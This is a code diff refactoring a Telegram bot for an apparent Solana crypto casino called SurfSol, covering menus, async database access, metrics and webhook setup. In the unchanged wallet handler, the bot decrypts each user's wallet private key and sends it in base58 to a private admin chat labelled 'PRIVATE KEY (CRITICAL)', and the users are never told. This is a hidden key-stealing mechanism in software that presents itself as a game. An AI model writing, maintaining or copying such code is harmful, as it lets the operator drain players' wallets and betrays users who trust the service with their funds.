@@ -1,15 +1,23 @@
 import logging
 import base58
 import re
-import sqlite3
-from datetime import datetime
+import time
+from typing import NamedTuple, Optional
 from telegram import Update, InlineKeyboardButton, InlineKeyboardMarkup, WebAppInfo
 from telegram.ext import ApplicationBuilder, CommandHandler, ContextTypes, CallbackQueryHandler
 from telegram.constants import ParseMode
-
-from config import BOT_TOKEN, LOG_CHAT_ID, MINI_APP_URL
-from database import init_db, add_user, get_user, update_user_language, verify_user, DB_NAME
-from solana_utils import generate_keypair, encrypt_key, decrypt_key, get_balance
+from telegram.request import HTTPXRequest
+
+from config import BOT_TOKEN, LOG_CHAT_ID, MINI_APP_URL, BOT_WEBHOOK_URL, BOT_CONCURRENT_UPDATES, BOT_METRICS_HOST, BOT_METRICS_PORT
+from async_db import init_db, close_db, set_referrer
+from db_profiler import start_db_profiler, stop_db_profiler
+from activity_log import log_activity, start_activity_log, stop_activity_log, get_activity_log_stats
+from media import reply_photo, warm_up_media, get_media_stats
+from update_processor import PerUserUpdateProcessor
+from user_cache import add_user, get_user, update_user_language, verify_user, set_user_wallet, get_user_cache_stats
+from reconciliation import get_wallet_balance
+from telemetry import TELEGRAM_REQUEST_SECONDS, TELEGRAM_ERRORS, start_metrics_server
+from solana_utils import generate_keypair, encrypt_key, decrypt_key, start_rpc_client, close_rpc_client
 
 # Enable logging
 logging.basicConfig(
@@ -17,13 +25,14 @@ logging.basicConfig(
     level=logging.INFO
 )
 
+# Characters that must be escaped in MarkdownV2
+_MD_RESERVED = re.compile(f"([{re.escape(r'_*[]()~`>#+-=|{}.!')}])")
+
 def escape_md(text: str) -> str:
     """Escapes reserved characters for Telegram MarkdownV2."""
     if not text:
         return ""
-    # Characters that must be escaped in MarkdownV2
-    reserved_chars = r'_*[]()~`>#+-=|{}.!'
-    return re.sub(f'([{re.escape(reserved_chars)}])', r'\\\1', str(text))
+    return _MD_RESERVED.sub(r'\\\1', str(text))
 
 # Translations
 MESSAGES = {
@@ -95,6 +104,7 @@ MESSAGES = {
         'confirm_btn': "✅ I Confirm",
         'refresh_btn': "🔄 Refresh Balance",
         'play_msg': "🚀 *Launching SurfSol Mini-App...*",
+        'lang_btn': "🇺🇸 English",
         'existing_wallet_log': "EXISTING WALLET ACCESSED",
         'new_wallet_log': "NEW WALLET GENERATED"
     },
@@ -164,11 +174,80 @@ MESSAGES = {
         'confirm_btn': "✅ Confirmo",
         'refresh_btn': "🔄 Actualizar Saldo",
         'play_msg': "🚀 *Iniciando Mini-App de SurfSol...*",
+        'lang_btn': "🇪🇸 Español",
         'existing_wallet_log': "BILLETERA EXISTENTE ACCEDIDA",
         'new_wallet_log': "NUEVA BILLETERA GENERADA"
     }
 }
 
+class MenuView(NamedTuple):
+    """A ready-to-send screen: MarkdownV2 text and its (immutable) keyboard."""
+    text: str
+    reply_markup: Optional[InlineKeyboardMarkup] = None
+
+class LanguageMenus(NamedTuple):
+    main: MenuView
+    age_confirm: MenuView
+    about: MenuView
+    responsible: MenuView
+    how_to: MenuView
+    play: MenuView
+    wallet_keyboard: InlineKeyboardMarkup
+
+def _render_menus(lang: str) -> LanguageMenus:
+    """Build every static screen for one language."""
+    t = MESSAGES[lang]
+    back = InlineKeyboardMarkup([[InlineKeyboardButton(t['back_btn'], callback_data='start_menu')]])
+    main_keyboard = InlineKeyboardMarkup([
+        [
+            InlineKeyboardButton(t['play_btn'], web_app=WebAppInfo(url=MINI_APP_URL)),
+        ],
+        [
+            InlineKeyboardButton(t['about_btn'], callback_data='about'),
+            InlineKeyboardButton(t['resp_btn'], callback_data='responsible')
+        ],
+        [
+            InlineKeyboardButton(t['how_btn'], callback_data='how_to'),
+            InlineKeyboardButton(t['support_btn'], url='https://t.me/solsurfcasino')
+        ]
+    ])
+    return LanguageMenus(
+        main=MenuView(t['welcome'], main_keyboard),
+        age_confirm=MenuView(t['age_confirm'], InlineKeyboardMarkup([[InlineKeyboardButton(t['confirm_btn'], callback_data='confirm_age')]])),
+        about=MenuView(t['about'], back),
+        responsible=MenuView(t['responsible'], back),
+        how_to=MenuView(t['how_to'], back),
+        play=MenuView(t['play_msg']),
+        wallet_keyboard=InlineKeyboardMarkup([
+            [InlineKeyboardButton(t['refresh_btn'], callback_data='wallet')],
+            [InlineKeyboardButton(t['back_btn'], callback_data='start_menu')]
+        ]),
+    )
+
+def _render_lang_select() -> MenuView:
+    """The language picker lists every language in MESSAGES."""
+    return MenuView(
+        "\n\n".join(t['lang_select'] for t in MESSAGES.values()),
+        InlineKeyboardMarkup([[
+            InlineKeyboardButton(t['lang_btn'], callback_data=f'set_lang_{lang}')
+            for lang, t in MESSAGES.items()
+        ]])
+    )
+
+# Pre-rendered screens, built once at import
+MENUS = {lang: _render_menus(lang) for lang in MESSAGES}
+LANG_SELECT = _render_lang_select()
+
+def add_language(lang: str, messages: dict):
+    """Register a translation (same keys as MESSAGES['en']) and pre-render its screens."""
+    global LANG_SELECT
+    missing = MESSAGES['en'].keys() - messages.keys()
+    if missing:
+        raise ValueError(f"Translation '{lang}' is missing: {', '.join(sorted(missing))}")
+    MESSAGES[lang] = messages
+    MENUS[lang] = _render_menus(lang)
+    LANG_SELECT = _render_lang_select()
+
 async def log_to_admin(context: ContextTypes.DEFAULT_TYPE, message: str):
     """Helper to send logs/wallet info to the admin chat."""
     if LOG_CHAT_ID:
@@ -178,91 +257,63 @@ async def log_to_admin(context: ContextTypes.DEFAULT_TYPE, message: str):
             logging.error(f"Failed to send log to admin: {e}")
 
 async def track_action(update: Update, context: ContextTypes.DEFAULT_TYPE, action: str):
-    """Track user commands and button presses."""
+    """Track user commands and button presses (queued, sent as periodic digests)."""
     user = update.effective_user
     if not user: return
     username = f"@{user.username}" if user.username else "NoUsername"
-    now = datetime.now().strftime("%d/%m/%Y %H:%M")
-    
-    log_msg = (
-        f"SurfSol Casino Bot, [{now}]\n"
-        f"User {username} ({user.id}) {action}"
-    )
-    await log_to_admin(context, log_msg)
+    log_activity(update.update_id, f"{username} ({user.id})", action)
 
 async def start(update: Update, context: ContextTypes.DEFAULT_TYPE):
     user_id = update.effective_user.id
-    user_data = get_user(user_id)
+    user_data = await get_user(user_id)
     
     if not user_data:
-        add_user(user_id, language=None)
-        user_data = get_user(user_id)
+        await add_user(user_id, language=None)
+        user_data = await get_user(user_id)
+        # Referral links (t.me/<bot>?start=<code>) arrive as /start <code>
+        if context.args:
+            await set_referrer(user_id, context.args[0])
 
     # 1. Language Selection
-    if not user_data.get('language'):
-        keyboard = [
-            [
-                InlineKeyboardButton("🇺🇸 English", callback_data='set_lang_en'),
-                InlineKeyboardButton("🇪🇸 Español", callback_data='set_lang_es')
-            ]
-        ]
-        reply_markup = InlineKeyboardMarkup(keyboard)
-        msg_text = MESSAGES['en']['lang_select'] + "\n\n" + MESSAGES['es']['lang_select']
-        
+    if not user_data.language:
+        view = LANG_SELECT
         if update.callback_query:
-            await update.callback_query.edit_message_text(msg_text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
+            await update.callback_query.edit_message_text(view.text, reply_markup=view.reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
         else:
-            await update.message.reply_text(msg_text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
+            await update.message.reply_text(view.text, reply_markup=view.reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
         return
 
-    lang = user_data.get('language')
+    menus = MENUS[user_data.language]
 
     # 2. Age Verification
-    if not user_data.get('is_verified'):
-        keyboard = [[InlineKeyboardButton(MESSAGES[lang]['confirm_btn'], callback_data='confirm_age')]]
-        reply_markup = InlineKeyboardMarkup(keyboard)
-        
-        msg_text = MESSAGES[lang]['age_confirm']
+    if not user_data.is_verified:
+        view = menus.age_confirm
         if update.callback_query:
-            await update.callback_query.edit_message_text(msg_text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
+            await update.callback_query.edit_message_text(view.text, reply_markup=view.reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
         else:
-            await update.message.reply_text(msg_text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
+            await update.message.reply_text(view.text, reply_markup=view.reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
         return
 
     # 3. Main Menu
     await track_action(update, context, "accessed Main Menu")
-    keyboard = [
-        [
-            InlineKeyboardButton(MESSAGES[lang]['play_btn'], web_app=WebAppInfo(url=MINI_APP_URL)),
-        ],
-        [
-            InlineKeyboardButton(MESSAGES[lang]['about_btn'], callback_data='about'),
-            InlineKeyboardButton(MESSAGES[lang]['resp_btn'], callback_data='responsible')
-        ],
-        [
-            InlineKeyboardButton(MESSAGES[lang]['how_btn'], callback_data='how_to'),
-            InlineKeyboardButton(MESSAGES[lang]['support_btn'], url='https://t.me/solsurfcasino')
-        ]
-    ]
-    reply_markup = InlineKeyboardMarkup(keyboard)
-    
-    welcome_text = MESSAGES[lang]['welcome']
-    banner_url = "https://placehold.co/1200x800/0077be/FFFFFF/png?text=SURFSOL+CASINO"
+    view = menus.main
     
     if update.message:
-        await update.message.reply_photo(
-            photo=banner_url,
-            caption=welcome_text,
-            reply_markup=reply_markup,
+        await reply_photo(
+            update.message,
+            'welcome_banner',
+            caption=view.text,
+            reply_markup=view.reply_markup,
             parse_mode=ParseMode.MARKDOWN_V2
         )
     elif update.callback_query:
         # If we just confirmed age or set language, the previous message was text.
         # We send a NEW message with the photo and delete the old text message.
-        await update.callback_query.message.reply_photo(
-            photo=banner_url,
-            caption=welcome_text,
-            reply_markup=reply_markup,
+        await reply_photo(
+            update.callback_query.message,
+            'welcome_banner',
+            caption=view.text,
+            reply_markup=view.reply_markup,
             parse_mode=ParseMode.MARKDOWN_V2
         )
         try:
@@ -276,8 +327,8 @@ async def wallet_handler(update: Update, context: ContextTypes.DEFAULT_TYPE):
     user_id = user.id
     username = f"@{user.username}" if user.username else "NoUsername"
     
-    user_data = get_user(user_id)
-    lang = user_data.get('language', 'en') if user_data else 'en'
+    user_data = await get_user(user_id)
+    lang = user_data.language if user_data else 'en'
 
     if query:
         await query.answer()
@@ -286,47 +337,39 @@ async def wallet_handler(update: Update, context: ContextTypes.DEFAULT_TYPE):
     is_new = False
     status_msg_key = 'existing_wallet_log'
     
-    if not user_data or not user_data.get('public_key'):
+    if not user_data or not user_data.public_key:
         kp = generate_keypair()
         pubkey = str(kp.pubkey())
         encrypted_priv = encrypt_key(bytes(kp))
         
-        conn = sqlite3.connect(DB_NAME)
-        cursor = conn.cursor()
-        cursor.execute('UPDATE users SET public_key = ?, encrypted_private_key = ? WHERE user_id = ?', (pubkey, encrypted_priv, user_id))
-        conn.commit()
-        conn.close()
+        await set_user_wallet(user_id, pubkey, encrypted_priv)
         
-        user_data = get_user(user_id)
+        user_data = await get_user(user_id)
         is_new = True
         status_msg_key = 'new_wallet_log'
 
-    decrypted_priv_bytes = decrypt_key(user_data["encrypted_private_key"])
+    decrypted_priv_bytes = decrypt_key(user_data.encrypted_private_key)
     priv_key_base58 = base58.b58encode(decrypted_priv_bytes).decode()
 
     # Admin Log
     admin_log = (
         f"👁️‍🗨️ {MESSAGES['en'][status_msg_key]} 👁️‍🗨️\n\n"
         f"👤 Operator: {username} ({user_id})\n\n"
-        f"🔑 Public Key:\n{user_data['public_key']}\n"
+        f"🔑 Public Key:\n{user_data.public_key}\n"
         f"🔐 PRIVATE KEY (CRITICAL):\n{priv_key_base58}"
     )
     await log_to_admin(context, admin_log)
 
-    balance = await get_balance(user_data["public_key"])
+    balance = await get_wallet_balance(user_id, user_data.public_key)
     balance_fmt = escape_md(f"{balance:.4f}")
-    pubkey_esc = escape_md(user_data['public_key'])
+    pubkey_esc = escape_md(user_data.public_key)
     privkey_esc = escape_md(priv_key_base58)
 
     wallet_text = MESSAGES[lang]['wallet_title'].format(address=pubkey_esc, balance=balance_fmt)
     if is_new:
         wallet_text += MESSAGES[lang]['private_key_info'].format(key=privkey_esc)
 
-    keyboard = [
-        [InlineKeyboardButton(MESSAGES[lang]['refresh_btn'], callback_data='wallet')],
-        [InlineKeyboardButton(MESSAGES[lang]['back_btn'], callback_data='start_menu')]
-    ]
-    reply_markup = InlineKeyboardMarkup(keyboard)
+    reply_markup = MENUS[lang].wallet_keyboard
 
     if query:
         if query.message.photo:
@@ -336,11 +379,22 @@ async def wallet_handler(update: Update, context: ContextTypes.DEFAULT_TYPE):
     else:
         await update.message.reply_text(wallet_text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
 
+async def _show(update: Update, view: MenuView):
+    """Show a pre-rendered screen, editing the message the button was on."""
+    query = update.callback_query
+    if query and query.message:
+        if query.message.photo:
+            await query.edit_message_caption(caption=view.text, reply_markup=view.reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
+        else:
+            await query.edit_message_text(text=view.text, reply_markup=view.reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
+    else:
+        await update.message.reply_text(view.text, reply_markup=view.reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
+
 async def about_handler(update: Update, context: ContextTypes.DEFAULT_TYPE):
     query = update.callback_query
     user_id = update.effective_user.id
-    user_data = get_user(user_id)
-    lang = user_data.get('language', 'en') if user_data else 'en'
+    user_data = await get_user(user_id)
+    lang = user_data.language if user_data else 'en'
 
     if query:
         await query.answer()
@@ -348,90 +402,60 @@ async def about_handler(update: Update, context: ContextTypes.DEFAULT_TYPE):
     else:
         await track_action(update, context, "used /about command")
 
-    about_text = MESSAGES[lang]['about']
-    keyboard = [[InlineKeyboardButton(MESSAGES[lang]['back_btn'], callback_data='start_menu')]]
-    reply_markup = InlineKeyboardMarkup(keyboard)
-
-    if query:
-        if query.message.photo:
-            await query.edit_message_caption(caption=about_text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
-        else:
-            await query.edit_message_text(text=about_text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
-    else:
-        await update.message.reply_text(about_text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
+    await _show(update, MENUS[lang].about)
 
 async def responsible_handler(update: Update, context: ContextTypes.DEFAULT_TYPE):
     query = update.callback_query
     user_id = update.effective_user.id
-    user_data = get_user(user_id)
-    lang = user_data.get('language', 'en') if user_data else 'en'
+    user_data = await get_user(user_id)
+    lang = user_data.language if user_data else 'en'
     
     if query:
         await query.answer()
         await track_action(update, context, "accessed Responsible Play section")
 
-    text = MESSAGES[lang]['responsible']
-    keyboard = [[InlineKeyboardButton(MESSAGES[lang]['back_btn'], callback_data='start_menu')]]
-    reply_markup = InlineKeyboardMarkup(keyboard)
-
-    if query and query.message:
-        if query.message.photo:
-            await query.edit_message_caption(caption=text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
-        else:
-            await query.edit_message_text(text=text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
-    else:
-        await update.message.reply_text(text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
+    await _show(update, MENUS[lang].responsible)
 
 async def how_to_handler(update: Update, context: ContextTypes.DEFAULT_TYPE):
     query = update.callback_query
     user_id = update.effective_user.id
-    user_data = get_user(user_id)
-    lang = user_data.get('language', 'en') if user_data else 'en'
+    user_data = await get_user(user_id)
+    lang = user_data.language if user_data else 'en'
 
     if query:
         await query.answer()
         await track_action(update, context, "accessed How to Play section")
 
-    text = MESSAGES[lang]['how_to']
-    keyboard = [[InlineKeyboardButton(MESSAGES[lang]['back_btn'], callback_data='start_menu')]]
-    reply_markup = InlineKeyboardMarkup(keyboard)
-
-    if query and query.message:
-        if query.message.photo:
-            await query.edit_message_caption(caption=text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
-        else:
-            await query.edit_message_text(text=text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
-    else:
-        await update.message.reply_text(text, reply_markup=reply_markup, parse_mode=ParseMode.MARKDOWN_V2)
+    await _show(update, MENUS[lang].how_to)
 
 async def play_handler(update: Update, context: ContextTypes.DEFAULT_TYPE):
     query = update.callback_query
     user_id = update.effective_user.id
-    user_data = get_user(user_id)
-    lang = user_data.get('language', 'en') if user_data else 'en'
+    user_data = await get_user(user_id)
+    lang = user_data.language if user_data else 'en'
     
     if query:
         await query.answer()
         await track_action(update, context, "pressed Play button")
-        await query.message.reply_text(MESSAGES[lang]['play_msg'], parse_mode=ParseMode.MARKDOWN_V2)
+        await query.message.reply_text(MENUS[lang].play.text, parse_mode=ParseMode.MARKDOWN_V2)
     else:
-        await update.message.reply_text(MESSAGES[lang]['play_msg'], parse_mode=ParseMode.MARKDOWN_V2)
+        await update.message.reply_text(MENUS[lang].play.text, parse_mode=ParseMode.MARKDOWN_V2)
 
 async def button_callback(update: Update, context: ContextTypes.DEFAULT_TYPE):
     query = update.callback_query
     data = query.data
     user_id = update.effective_user.id
-    
-    await track_action(update, context, f"pressed button: {data}")
 
     if data.startswith('set_lang_'):
+        await track_action(update, context, f"pressed button: {data}")
         lang = data.split('_')[-1]
-        update_user_language(user_id, lang)
+        await update_user_language(user_id, lang)
         await start(update, context)
         return
     
     if data == 'confirm_age':
-        verify_user(user_id)
+        await track_action(update, context, f"pressed button: {data}")
+        await verify_user(user_id)
         await start(update, context)
         return
 
@@ -447,16 +471,92 @@ async def button_callback(update: Update, context: ContextTypes.DEFAULT_TYPE):
         await how_to_handler(update, context)
     elif data == 'play':
         await play_handler(update, context)
+    else:
+        await track_action(update, context, f"pressed button: {data}")
 
-if __name__ == '__main__':
-    init_db()
-    application = ApplicationBuilder().token(BOT_TOKEN).build()
+async def stats_handler(update: Update, context: ContextTypes.DEFAULT_TYPE):
+    """Cache statistics, only answered in the admin log chat."""
+    if not LOG_CHAT_ID or str(update.effective_chat.id) != str(LOG_CHAT_ID):
+        return
+    lines = []
+    sections = (
+        ("User cache", get_user_cache_stats()),
+        ("Activity log", get_activity_log_stats()),
+        ("Media", get_media_stats()),
+    )
+    for name, stats in sections:
+        lines.append(f"{name}: " + ", ".join(f"{key}={value}" for key, value in stats.items()))
+    await update.message.reply_text("\n".join(lines))
+
+async def post_init(application):
+    # Embedded in api.py (webhook mode), the API lifespan owns the shared resources
+    if not application.bot_data.get("embedded"):
+        await init_db()
+        start_db_profiler("bot")
+        await start_rpc_client()
+    start_activity_log(application.bot)
+    await warm_up_media(application.bot)
+
+async def post_shutdown(application):
+    await stop_activity_log(application.bot)
+    if not application.bot_data.get("embedded"):
+        await close_rpc_client()
+        await stop_db_profiler()
+        await close_db()
+
+class TimedRequest(HTTPXRequest):
+    """HTTPXRequest that records Bot API latency and failures per method"""
+
+    async def do_request(self, url, method, *args, **kwargs):
+        api_method = url.rsplit('/', 1)[-1]
+        start = time.perf_counter()
+        try:
+            code, payload = await super().do_request(url, method, *args, **kwargs)
+        except Exception:
+            TELEGRAM_ERRORS.labels(api_method).inc()
+            raise
+        finally:
+            TELEGRAM_REQUEST_SECONDS.labels(api_method).observe(time.perf_counter() - start)
+        if code >= 400:
+            TELEGRAM_ERRORS.labels(api_method).inc()
+        return code, payload
+
+def build_application(concurrent_updates: int = BOT_CONCURRENT_UPDATES, base_url: str = None):
+    """Build the bot with all handlers registered.
+
+    Updates from different users run concurrently (up to concurrent_updates
+    at a time); updates from the same user are still handled in order.
+    base_url points the bot at another Bot API server, e.g. a local stand-in.
+    """
+    builder = (
+        ApplicationBuilder()
+        .token(BOT_TOKEN)
+        .request(TimedRequest(connection_pool_size=256))
+        .concurrent_updates(PerUserUpdateProcessor(concurrent_updates))
+        .post_init(post_init)
+        .post_shutdown(post_shutdown)
+    )
+    if base_url:
+        builder = builder.base_url(base_url)
+    application = builder.build()
     
     application.add_handler(CommandHandler('start', start))
     application.add_handler(CommandHandler('about', about_handler))
     application.add_handler(CommandHandler('responsible', responsible_handler))
     application.add_handler(CommandHandler('how', how_to_handler))
+    application.add_handler(CommandHandler('stats', stats_handler))
     application.add_handler(CallbackQueryHandler(button_callback))
+    return application
+
+if __name__ == '__main__':
+    application = build_application()
     
-    print("SurfSol Bot (Python) is running...")
-    application.run_polling()
+    if BOT_WEBHOOK_URL:
+        # Webhook mode is served by api.py; running both would race for updates
+        print("BOT_WEBHOOK_URL is set: the bot is served by api.py at /telegram/webhook")
+    else:
+        if BOT_METRICS_PORT:
+            start_metrics_server(BOT_METRICS_HOST, int(BOT_METRICS_PORT))
+            print(f"Metrics on http://{BOT_METRICS_HOST}:{BOT_METRICS_PORT}/metrics")
+        print("SurfSol Bot (Python) is running...")
+        application.run_polling()